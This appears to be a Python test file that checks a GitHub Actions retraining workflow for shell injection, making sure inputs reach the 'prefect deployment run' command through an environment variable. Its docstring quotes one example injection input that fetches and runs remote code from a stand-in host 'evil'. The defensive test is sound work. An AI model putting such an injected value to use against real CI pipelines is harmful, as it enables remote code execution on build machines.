"""The CI example (.github/workflows/retrain.yml) is copied by users: no expression is
pasted into a shell script, where an input like ``x"; curl evil | sh #`` would run."""

from __future__ import annotations

import re
from pathlib import Path

import yaml

WORKFLOW = Path(__file__).resolve().parents[2] / ".github" / "workflows" / "retrain.yml"


def test_no_expression_is_interpolated_into_a_run_script() -> None:
    workflow = yaml.safe_load(WORKFLOW.read_text())
    steps = [step for job in workflow["jobs"].values() for step in job["steps"]]
    scripts = [step["run"] for step in steps if "run" in step]
    assert any("prefect deployment run" in s for s in scripts)
    assert [s for s in scripts if "${{" in s] == []
    # the deployment input still reaches the command, through the step's environment
    runs = [step for step in steps if "prefect deployment run" in step.get("run", "")]
    assert len(runs) == 1 and re.search(r"\$\{\{\s*inputs\.deployment", runs[0]["env"]["DEPLOYMENT"])
    assert '"$DEPLOYMENT"' in runs[0]["run"]
